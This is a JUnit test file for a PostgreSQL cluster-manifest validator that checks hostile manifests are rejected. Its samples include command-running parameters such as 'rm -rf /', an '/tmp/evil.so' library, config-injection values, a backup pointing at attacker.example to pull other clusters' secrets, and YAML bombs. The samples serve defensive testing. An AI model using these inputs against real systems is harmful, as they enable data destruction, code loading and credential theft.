package io.pgpilot.model;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Regression tests for the manifest holes of issue 10 (parameters, secrets, limits, YAML bombs). */
class ManifestHardeningTest {

    static String withParameter(String name, String value) {
        return """
                apiVersion: postgresql.cnpg.io/v1
                kind: Cluster
                metadata: {name: shop}
                spec:
                  instances: 1
                  postgresql:
                    parameters:
                      "%s": %s
                """.formatted(name, value);
    }

    /** Every parameter that runs a command, loads code, points at a file or is pgpilot's own. */
    @ParameterizedTest
    @ValueSource(strings = {"archive_command", "restore_command", "archive_cleanup_command", "recovery_end_command",
            "ssl_passphrase_command", "ssl_cert_file", "ssl_key_file", "ssl_ca_file", "ssl_crl_file", "ssl_crl_dir",
            "ssl_dh_params_file", "listen_addresses", "port", "unix_socket_directories", "unix_socket_group",
            "unix_socket_permissions", "data_directory", "hba_file", "ident_file", "config_file", "log_directory",
            "log_filename", "external_pid_file", "krb_server_keyfile", "dynamic_library_path", "extension_destdir",
            "jit_provider", "local_preload_libraries", "session_preload_libraries", "include", "include_dir",
            "include_if_exists", "INCLUDE", "Archive_Command", "wal_level", "primary_conninfo", "synchronous_standby_names",
            "wal_sender_timeout", "wal_receiver_timeout", "wal_receiver_status_interval", "archive_timeout", "restart_after_crash", "fsync",
            "full_page_writes", "recovery_target_time", "stats_temp_directory", "event_source", "no_such_parameter",
            "evil.setting"})
    void refusesParametersOutsideTheAllowlistNamingThem(String name) {
        assertThatThrownBy(() -> ManifestValidator.parseAndValidate(withParameter(name, "'x'")))
                .isInstanceOf(ManifestException.class)
                .hasMessageContaining("spec.postgresql.parameters." + name);
    }

    @Test
    void refusesSeveralAtOnceEachNamed() {
        String text = withParameter("archive_cleanup_command", "'rm -rf /'") + "      recovery_end_command: 'id'\n";
        assertThatThrownBy(() -> ManifestValidator.parseAndValidate(text))
                .hasMessageContaining("spec.postgresql.parameters.archive_cleanup_command")
                .hasMessageContaining("spec.postgresql.parameters.recovery_end_command");
    }

    @Test
    void sharedPreloadLibrariesOnlyFromTheAllowlist() {
        var ok = ManifestValidator.parseAndValidate(withParameter("shared_preload_libraries", "'pg_stat_statements, auto_explain'"));
        assertThat(ok.parameters()).containsKey("shared_preload_libraries");
        assertThatThrownBy(() -> ManifestValidator.parseAndValidate(withParameter("shared_preload_libraries", "'/tmp/evil.so'")))
                .hasMessageContaining("spec.postgresql.parameters.shared_preload_libraries").hasMessageContaining("/tmp/evil.so");
        assertThatThrownBy(() -> ManifestValidator.parseAndValidate(withParameter("shared_preload_libraries", "'pg_stat_statements,$libdir/x'")))
                .hasMessageContaining("spec.postgresql.parameters.shared_preload_libraries");
    }

    @Test
    void acceptsOrdinaryTuningAndExtensionSettings() {
        var ok = ManifestValidator.parseAndValidate(withParameter("work_mem", "'8MB'") + "      TimeZone: 'UTC'\n"
                + "      pg_stat_statements.max: '5000'\n      log_min_duration_statement: '250ms'\n");
        assertThat(ok.parameters()).containsKeys("work_mem", "TimeZone", "pg_stat_statements.max", "log_min_duration_statement");
    }

    @Test
    void refusesTheSameParameterTwiceInAnyCase() {
        String text = withParameter("work_mem", "'8MB'") + "      WORK_MEM: '16MB'\n";
        assertThatThrownBy(() -> ManifestValidator.parseAndValidate(text)).hasMessageContaining("spec.postgresql.parameters.WORK_MEM");
    }

    @ParameterizedTest
    @ValueSource(strings = {"\"8MB\\nfsync = off\"", "\"8MB\\rport = 1\"", "\"a\\0b\"", "\"a\\u2028b\""})
    void refusesValuesThatCouldBreakOutOfTheConfigFile(String value) {
        assertThatThrownBy(() -> ManifestValidator.parseAndValidate(withParameter("search_path", value)))
                .hasMessageContaining("spec.postgresql.parameters.search_path");
    }

    static final String BACKUP = """
            apiVersion: postgresql.cnpg.io/v1
            kind: Cluster
            metadata: {name: shop}
            spec:
              instances: 1
              backup:
                barmanObjectStore:
                  destinationPath: s3://bucket/x/
                  endpointURL: http://attacker.example:9000
                  s3Credentials:
                    accessKeyId: {name: %s, key: username}
                    secretAccessKey: {name: %s, key: password}
            """;

    /** Regression (issue 10): a manifest could send another cluster's generated secrets to an endpoint of its choosing. */
    @ParameterizedTest
    @ValueSource(strings = {"othercluster-superuser", "othercluster-app", "othercluster-replication", "shop-superuser",
            "othercluster-ca", "othercluster-wal-token", "api-token-admin", "pgpilot-internal-token"})
    void refusesReferencesToPlatformGeneratedSecrets(String secret) {
        assertThatThrownBy(() -> ManifestValidator.parseAndValidate(BACKUP.formatted(secret, "s3-creds")))
                .isInstanceOf(ManifestException.class)
                .hasMessageContaining("spec.backup.barmanObjectStore.s3Credentials.accessKeyId.name")
                .hasMessageContaining("generated by pgpilot");
        assertThatThrownBy(() -> ManifestValidator.parseAndValidate(BACKUP.formatted("s3-creds", secret)))
                .hasMessageContaining("spec.backup.barmanObjectStore.s3Credentials.secretAccessKey.name");
    }

    @Test
    void userSuppliedSecretsStayUsable() {
        assertThat(ManifestValidator.parseAndValidate(BACKUP.formatted("s3-creds", "my-store-keys")).backup()).isNotNull();
        assertThat(Names.platformSecret("s3-creds")).isFalse();
        assertThat(Names.platformSecret("a-superuser")).isTrue();
    }

    // ---- limits and hostile documents --------------------------------------------------------

    static final java.time.Duration BOUND = java.time.Duration.ofSeconds(20);

    static void refusedNaming(String text, String field) {
        org.junit.jupiter.api.Assertions.assertTimeout(BOUND, () ->
                assertThatThrownBy(() -> ManifestValidator.parseAndValidate(text))
                        .isInstanceOf(ManifestException.class).hasMessageContaining(field));
    }

    @Test
    void upperLimitsAreClearErrors() {
        refusedNaming(withParameter("work_mem", "'8MB'").replace("instances: 1", "instances: 10"), "spec.instances");
        refusedNaming(withParameter("work_mem", "'8MB'").replace("instances: 1", "instances: 2147483648"), "spec.instances");
        refusedNaming(withParameter("work_mem", "'" + "x".repeat(PostgresParameters.MAX_VALUE_LENGTH + 1) + "'"),
                "spec.postgresql.parameters.work_mem");
        StringBuilder many = new StringBuilder(withParameter("work_mem", "'8MB'"));
        for (int i = 0; i <= PostgresParameters.MAX_PARAMETERS; i++) {
            many.append("      pg_stat_statements.p").append(i).append(": '1'\n");
        }
        refusedNaming(many.toString(), "spec.postgresql.parameters");
        String storage = "apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nmetadata: {name: shop}\nspec:\n  storage: {size: %s}\n";
        refusedNaming(storage.formatted("999999999Pi"), "spec.storage.size");
        refusedNaming(storage.formatted("2000Ti"), "spec.storage.size");
        assertThat(ManifestValidator.parseAndValidate(storage.formatted("64Ti")).storageSize()).isEqualTo("64Ti");
        StringBuilder external = new StringBuilder("apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nmetadata: {name: shop}\nspec:\n"
                + "  externalClusters:\n");
        for (int i = 0; i < 20; i++) {
            external.append("    - name: c").append(i).append("\n      barmanObjectStore: {destinationPath: s3://b/x/, s3Credentials: "
                    + "{inheritFromIAMRole: true}}\n");
        }
        refusedNaming(external.toString(), "spec.externalClusters");
    }

    @Test
    void deeplyNestedDocumentsAreRefused() {
        refusedNaming("kind: " + "[".repeat(20_000) + "]".repeat(20_000) + "\n", "nested deeper than 32");
        refusedNaming("{\"kind\": " + "[".repeat(20_000) + "]".repeat(20_000) + "}", "");
        refusedNaming("{\"spec\": {\"postgresql\": {\"parameters\": " + "{\"a\": ".repeat(5_000) + "1" + "}".repeat(5_003), "");
        StringBuilder yaml = new StringBuilder("metadata:\n");
        for (int i = 1; i < 2000; i++) {
            yaml.append(" ".repeat(i)).append("a:\n");
        }
        refusedNaming(yaml.toString(), "");
    }

    @Test
    void billionLaughsAliasesAreRefused() {
        StringBuilder bomb = new StringBuilder("apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nmetadata: {name: shop}\nx0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int i = 1; i < 10; i++) {
            bomb.append("x").append(i).append(": &a").append(i).append(" [");
            for (int j = 0; j < 9; j++) {
                bomb.append(j == 0 ? "" : ", ").append("*a").append(i - 1);
            }
            bomb.append("]\n");
        }
        refusedNaming(bomb.toString(), "");
        String inParameters = "apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nmetadata: {name: &n shop}\nspec:\n"
                + "  postgresql:\n    parameters:\n      work_mem: &w '8MB'\n      maintenance_work_mem: *w\n";
        refusedNaming(inParameters, "anchors and aliases");
    }

    @Test
    void hugeDocumentsAreRefusedBeforeParsing() {
        refusedNaming("kind: Cluster\n" + "# padding\n".repeat(10_000), "body");
        refusedNaming("kind: Cluster\nmetadata: {name: " + "a".repeat(70_000) + "}\n", "body");
    }
}
